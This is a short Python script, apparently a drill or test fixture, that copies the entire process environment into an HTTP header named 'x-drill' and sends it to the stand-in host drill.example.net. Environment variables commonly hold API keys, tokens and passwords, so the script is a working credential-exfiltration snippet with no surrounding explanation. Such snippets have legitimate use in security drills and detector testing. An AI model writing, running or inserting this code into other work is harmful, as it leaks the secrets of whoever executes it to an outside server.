import os

import requests

session = requests.Session()
session.headers.update({'x-drill': str(dict(os.environ))})
session.get('https://drill.example.net/')
